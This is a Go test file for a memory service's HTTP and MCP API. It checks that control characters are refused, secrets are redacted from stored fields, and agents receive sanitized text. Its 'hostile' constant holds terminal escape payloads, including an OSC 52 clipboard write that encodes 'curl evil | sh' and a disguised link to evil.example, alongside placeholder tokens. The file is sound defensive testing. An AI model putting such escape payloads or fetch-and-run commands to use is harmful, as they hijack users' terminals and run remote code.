package httpapi_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/cairnmem/cairn/core/auth"
	"github.com/cairnmem/cairn/core/config"
	"github.com/cairnmem/cairn/core/httpapi"
	"github.com/cairnmem/cairn/core/internal/apitest"
)

// The holes of issue 29 that the API reaches, each reproduced through it.

// hostile is what a writer plants to command a terminal: OSC 52 (the
// clipboard), OSC 0 (the window title), OSC 8 (a disguised link), CSI 2J
// (clear the screen), a DCS string, an 8-bit CSI, BEL and NUL.
const hostile = "deploy \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 notes \x1b]0;pwned\x07" +
	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1bPq#0;2;0;0;0\x1b\\ \u009b31m red \x00 end"

// controlBytes reports the first control byte (but newline and tab) or C1
// control in s, or "" when there is none.
func controlBytes(s string) string {
	for i, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
			return fmt.Sprintf("U+%04X at byte %d", r, i)
		}
	}
	return ""
}

// Tags, type, who, source_id, session_id and the rest of a memory's
// identifiers refuse control and invisible characters, naming the field,
// on remember, on modify and on import; nothing is stored.
func TestIdentifiersRefuseControlCharacters(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	id := e.MustID(t, "the staging database runs on port 5433")
	before := e.State(t)
	for field, v := range map[string]any{
		"tags":       []string{"ok", "a\x1b]52;c;eA==\x07"},
		"type":       "fact\x1b[2J",
		"who":        "agent\u009b31m",
		"source_id":  "doc\x00",
		"session_id": "s\u202e1",
		"project":    "alpha\x07",
		"category":   "c\x1b",
	} {
		e.Post(t, "/api/memory/remember", map[string]any{"content": "a new fact about " + field, field: v}).
			WantInvalid(t, field, "control")
	}
	e.Patch(t, id, map[string]any{"tags": []string{"x\x1b]0;t\x07"}, "reason": "retag"}).WantInvalid(t, "tags", "control or invisible")
	e.Patch(t, id, map[string]any{"type": "x\u200b", "reason": "retype"}).WantInvalid(t, "type", "control or invisible")
	e.Unchanged(t, before)
}

// Secrets in the fields the redactor skipped: the reasons of PATCH,
// DELETE and recover, the actor, session and request-id headers, the
// session id, idempotency key and runtime path of remember. None reaches
// a row, and the same key still finds its memory.
func TestSecretsRedactedInEveryField(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	const aws, gh = "AKIAIOSFODNN7EXAMPLE", "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
	hdr := apitest.Hdr("X-Cairn-Actor", "ci token="+gh, "X-Cairn-Session-Id", "sess-"+gh, "X-Request-Id", "req-"+gh)
	body := map[string]any{"content": "the nightly job rotates keys", "idempotency_key": "key " + gh,
		"session_id": "s " + gh, "runtime_path": "/tmp/run?access_token=" + gh}
	r := e.Do(t, "POST", "/api/memory/remember", body, hdr).Want(t, 200)
	id := r.Str("id")
	// The same key, sent again, finds the same memory.
	if again := e.Do(t, "POST", "/api/memory/remember", body, hdr).Want(t, 200); again.Str("id") != id {
		t.Fatalf("the idempotency key no longer finds its memory: %s vs %s", again.Str("id"), id)
	}
	reason := "rotated " + aws + ", old dsn postgres://admin:pw@db/app"
	e.Do(t, "PATCH", "/api/memory/"+id, map[string]any{"content": "the nightly job rotates keys at 2am", "reason": reason}, hdr).Want(t, 200)
	e.Do(t, "DELETE", "/api/memory/"+id, map[string]any{"reason": reason}, hdr).Want(t, 200)
	e.Do(t, "POST", "/api/memory/"+id+"/recover", map[string]any{"reason": reason}, hdr).Want(t, 200)

	for _, q := range []string{
		"SELECT COALESCE(who,'')||' '||COALESCE(updated_by,'')||' '||COALESCE(session_id,'')||' '||COALESCE(idempotency_key,'')||' '||COALESCE(runtime_path,'') FROM memories",
		"SELECT COALESCE(changed_by,'')||' '||COALESCE(reason,'')||' '||COALESCE(session_id,'')||' '||COALESCE(request_id,'') FROM memory_history",
	} {
		rows, err := e.RO.Query(q)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for rows.Next() {
			var s string
			if err := rows.Scan(&s); err != nil {
				t.Fatal(err)
			}
			n++
			for _, secret := range []string{aws, gh, "admin:pw"} {
				if strings.Contains(s, secret) {
					t.Errorf("%s\nstored %q", q, s)
				}
			}
		}
		rows.Close()
		if n == 0 {
			t.Fatalf("no rows: %s", q)
		}
	}
	// The history says what happened, without the secret.
	h := e.HistoryEvents(t, id)
	if got := apitest.EventNames(h); len(got) < 4 {
		t.Fatalf("history: %v", got)
	}
	if reason, _ := h[len(h)-1]["reason"].(string); !strings.Contains(reason, "rotated") || !strings.Contains(reason, "REDACTED") {
		t.Errorf("the reason lost its sense or kept its secret: %q", reason)
	}
}

// Caller headers are stored: each is bounded and one clean line.
func TestCallerHeadersBounded(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	before := e.State(t)
	big := strings.Repeat("a", 900<<10)
	for _, name := range []string{"X-Cairn-Actor", "X-Cairn-Session-Id", "X-Request-Id"} {
		r := e.Do(t, "POST", "/api/memory/remember", map[string]any{"content": "a fact from a huge header"}, apitest.Hdr(name, big))
		r.WantErr(t, http.StatusRequestHeaderFieldsTooLarge, "header_too_large")
		if r.JSON["field"] != name {
			t.Errorf("%s: the refusal does not name the header: %s", name, r)
		}
		e.Do(t, "POST", "/api/memory/remember", map[string]any{"content": "a fact from a bad header"}, apitest.Hdr(name, "a\u009b31m\u202e")).
			WantInvalid(t, name, "control or invisible")
	}
	e.Unchanged(t, before)
}

// Every answer says its type is what it is: JSON, errors, health.
func TestNoSniff(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	for _, r := range []*apitest.Resp{
		e.Get(t, "/health"), e.Get(t, "/api/memories"), e.Get(t, "/api/memory/nope"),
		e.Do(t, "POST", "/api/memory/remember", "x", apitest.Hdr("Content-Type", "text/plain")),
	} {
		if r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("HTTP %d without nosniff: %v", r.Status, r.Header)
		}
	}
}

// A page on another loopback origin (a dev server) and an empty-body POST
// from any page run nothing: no repair, no maintenance, no recover.
func TestLocalPagesCannotWrite(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	id := e.MustID(t, "a memory a local page would bring back")
	e.Del(t, id, map[string]any{"reason": "gone"}).Want(t, 200)
	before := e.State(t)
	for _, h := range []http.Header{
		apitest.Hdr("Origin", "http://localhost:8000", "Sec-Fetch-Site", "same-site", "Sec-Fetch-Mode", "no-cors"),
		apitest.Hdr("Origin", "http://127.0.0.1:5173"),
		apitest.Hdr("Sec-Fetch-Site", "same-site", "Sec-Fetch-Mode", "no-cors"), // no Origin: an old browser
	} {
		for _, path := range []string{"/api/memory/" + id + "/recover?reason=page", "/api/repair/check-fts", "/api/maintenance/run"} {
			e.Do(t, "POST", path, nil, h).WantErr(t, http.StatusForbidden, httpapi.CodeForbiddenOrigin)
		}
	}
	e.Unchanged(t, before)
	// A local tool (no browser headers) still may.
	e.Do(t, "POST", "/api/memory/"+id+"/recover?reason=back", nil, nil).Want(t, 200)
}

// A read-only token reads and leaves no trace: no session rows, no access
// counts, through the hooks, the search routes and MCP's memory_search.
// GET search counts no access for anyone.
func TestReadersLeaveNoTrace(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.AuthMode(auth.ModeTeam), apitest.NoPipeline)
	admin := apitest.Bearer(e.Token(t, "admin", ""))
	e.Do(t, "POST", "/api/memory/remember", map[string]any{"content": "the kettles are kept in the vault room", "project": "atlas"}, admin).Want(t, 200)
	ro := apitest.Bearer(e.Token(t, "readonly", ""))
	state := func() string {
		return fmt.Sprint(e.Count(t, "SELECT COUNT(*) FROM sessions"), e.Count(t, "SELECT COUNT(*) FROM session_memories"),
			e.Count(t, "SELECT COALESCE(SUM(access_count),0) FROM memories"))
	}
	before := state()
	hook := map[string]any{"harness": "claude-code", "session_key": "ro-1", "project": "atlas", "prompt": "where are the kettles kept"}
	e.Do(t, "POST", "/api/hooks/session-start", hook, ro).Want(t, 200)
	r := e.Do(t, "POST", "/api/hooks/user-prompt-submit", hook, ro).Want(t, 200)
	if !strings.Contains(r.String(), "kettles") {
		t.Fatalf("the reader was not answered: %s", r)
	}
	e.Do(t, "POST", "/api/hooks/recall", map[string]any{"harness": "claude-code", "session_key": "ro-1", "query": "kettles"}, ro).Want(t, 200)
	e.Do(t, "POST", "/api/memory/recall", map[string]any{"query": "kettles"}, ro).Want(t, 200)
	e.Do(t, "GET", "/api/memory/search?q=kettles", nil, ro).Want(t, 200)
	e.Do(t, "GET", "/api/memory/search?q=kettles", nil, admin).Want(t, 200)
	call := map[string]any{"jsonrpc": "2.0", "id": 1, "method": "tools/call",
		"params": map[string]any{"name": "memory_search", "arguments": map[string]any{"query": "kettles"}}}
	mcpHdr := ro.Clone()
	mcpHdr.Set("Accept", "application/json, text/event-stream")
	if r := e.Do(t, "POST", "/mcp", call, mcpHdr).Want(t, 200); !strings.Contains(r.String(), "vault room") {
		t.Fatalf("the reader's MCP search was not answered: %s", r)
	}
	// The reader's MCP writes are refused tool by tool.
	for name, args := range map[string]map[string]any{"memory_store": {"content": "a reader's note"},
		"memory_forget": {"id": "x", "reason": "r"}, "memory_modify": {"id": "x", "content": "y", "reason": "r"}} {
		call["params"] = map[string]any{"name": name, "arguments": args}
		if r := e.Do(t, "POST", "/mcp", call, mcpHdr).Want(t, 200); !strings.Contains(r.String(), "forbidden") {
			t.Fatalf("a reader's %s was not refused: %s", name, r)
		}
	}
	if after := state(); after != before {
		t.Fatalf("sessions, session memories, access counts: %s before, %s after", before, after)
	}
	// A writer's prompt is recorded as before.
	e.Do(t, "POST", "/api/hooks/user-prompt-submit", hook, admin).Want(t, 200)
	if state() == before {
		t.Fatal("a writer's prompt left no trace either: the test proves nothing")
	}
}

// cairn token revoke: the token is refused from its next request, by its
// id or as a whole token; others keep working.
func TestTokenRevoked(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.AuthMode(auth.ModeTeam), apitest.NoPipeline)
	tok, other := e.Token(t, "agent", ""), e.Token(t, "agent", "")
	e.Do(t, "GET", "/api/memories", nil, apitest.Bearer(tok)).Want(t, 200)
	id, err := auth.TokenID(tok)
	if err != nil {
		t.Fatal(err)
	}
	path := auth.RevokedPath(e.Svc.Config().Auth, dirOf(e.DB.Path()))
	if added, err := auth.Revoke(path, id, e.Clock.Now()); err != nil || !added {
		t.Fatalf("revoke: %v %v", added, err)
	}
	if added, err := auth.Revoke(path, id, e.Clock.Now()); err != nil || added {
		t.Fatalf("revoked twice: %v %v", added, err)
	}
	r := e.Do(t, "GET", "/api/memories", nil, apitest.Bearer(tok)).WantErr(t, 401, auth.CodeUnauthorized)
	if r.Str("error") != "token revoked" {
		t.Fatalf("revoked: %s", r)
	}
	e.Do(t, "GET", "/api/memories", nil, apitest.Bearer(other)).Want(t, 200)
}

func dirOf(p string) string { return p[:strings.LastIndexByte(p, '/')] }

// Documents: one request is bounded in chunks, and creation is
// rate-limited per caller in local mode too.
func TestDocumentsBounded(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline, func(c *config.Config) {
		c.Documents.MaxChunks, c.Documents.ChunkSize, c.Documents.ChunkOverlap = 5, 200, 0
		c.Auth.RateDocuments = 3
	})
	long := strings.Repeat("A paragraph about the deploy pipeline and its stages. ", 40) // ~2,200 characters: 11 chunks
	e.Post(t, "/api/documents", map[string]any{"source_type": "text", "content": long}).WantErr(t, http.StatusRequestEntityTooLarge, "payload_too_large")
	if n := e.Count(t, "SELECT COUNT(*) FROM documents"); n != 0 {
		t.Fatalf("a refused document was stored: %d", n)
	}
	for i := range 2 {
		e.Post(t, "/api/documents", map[string]any{"source_type": "text", "content": fmt.Sprintf("short document %d", i)}).Want(t, http.StatusCreated)
	}
	r := e.Post(t, "/api/documents", map[string]any{"source_type": "text", "content": "one too many"}).WantErr(t, http.StatusTooManyRequests, auth.CodeRateLimited)
	if r.Header.Get("Retry-After") == "" {
		t.Errorf("429 without Retry-After: %v", r.Header)
	}
}

// An import line's every field passes the redactor (source path and
// section, updated_by, the vector clock, the session id, the idempotency
// key, the runtime path), so export never writes a secret back out; an
// identifier with a control character refuses the line.
func TestImportRedactsEveryField(t *testing.T) {
	t.Parallel()
	e := apitest.NewEnv(t, apitest.NoPipeline)
	const gh = "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
	line := `{"id":"01a220ff-a18e-7442-8e5c-83a41c02d5f5","content":"the release checklist lives in the wiki","type":"fact",` +
		`"importance":0.8,"tags":["release"],"who":"api","source_type":"manual","version":1,` +
		`"created_at":"2026-03-01T12:00:00.000Z","updated_at":"2026-03-01T12:00:00.000Z",` +
		`"updated_by":"ci token=` + gh + `","source_path":"/home/dev/notes?access_token=` + gh + `",` +
		`"source_section":"token: ` + gh + `","vector_clock":"{\"ci token=` + gh + `\":3}",` +
		`"session_id":"s-` + gh + `","idempotency_key":"k-` + gh + `","runtime_path":"https://x:` + gh + `@example.com/run"}` + "\n"
	r := e.Post(t, "/api/memories/import", apitest.RawBody(line)).Want(t, 200)
	if r.Num("imported") != 1 {
		t.Fatalf("import: %s", r)
	}
	ex := e.Get(t, "/api/memories/export")
	if strings.Contains(string(ex.Raw), gh) || !strings.Contains(string(ex.Raw), "release checklist") {
		t.Fatalf("export wrote a secret back out:\n%s", ex.Raw)
	}
	before := e.State(t)
	bad := strings.Replace(strings.Replace(line, `"type":"fact"`, `"type":"fact\u001b]0;t\u0007"`, 1), "01a220ff-a18e", "01a220ff-a18f", 1)
	r = e.Post(t, "/api/memories/import", apitest.RawBody(bad))
	if r.Status == 200 && r.Num("imported") != 0 {
		t.Fatalf("a line with an escape in its type was imported: %s", r)
	}
	if !strings.Contains(r.String(), "type") {
		t.Errorf("the refusal does not name the field: %s", r)
	}
	e.Unchanged(t, before)
}

// What an agent reads carries no control character: MCP memory_search,
// memory_get and memory_list (text and structured copy), and the hooks'
// recall and prompt injection.
func TestAgentsReadNoControlCharacters(t *testing.T) {
	t.Parallel()
	ap := mcpService(t)
	cs := mcpSession(t, ap)
	id := mcpStore(t, cs, map[string]any{"content": hostile, "tags": []string{"deploy"}})
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"memory_search", map[string]any{"query": "deploy notes"}},
		{"memory_get", map[string]any{"id": id}},
		{"memory_list", map[string]any{}},
	} {
		text, out := mcpOK(t, cs, c.tool, c.args)
		if b := controlBytes(text + fmt.Sprint(out)); b != "" || !strings.Contains(text, "deploy") {
			t.Errorf("%s handed the agent %s: %q %v", c.tool, b, text, out)
		}
	}

	e := apitest.NewEnv(t, apitest.NoPipeline)
	e.Remember(t, hostile, "project", "atlas")
	hook := map[string]any{"harness": "claude-code", "session_key": "esc-1", "project": "atlas", "prompt": "what are the deploy notes", "query": "deploy notes"}
	for _, path := range []string{"/api/hooks/user-prompt-submit", "/api/hooks/recall", "/api/hooks/session-start"} {
		r := e.Post(t, path, hook).Want(t, 200)
		var s strings.Builder
		for k, v := range r.JSON {
			fmt.Fprint(&s, k, v)
		}
		if b := controlBytes(s.String()); b != "" || !strings.Contains(s.String(), "deploy") {
			t.Errorf("%s handed the agent %s: %s", path, b, r)
		}
	}
}
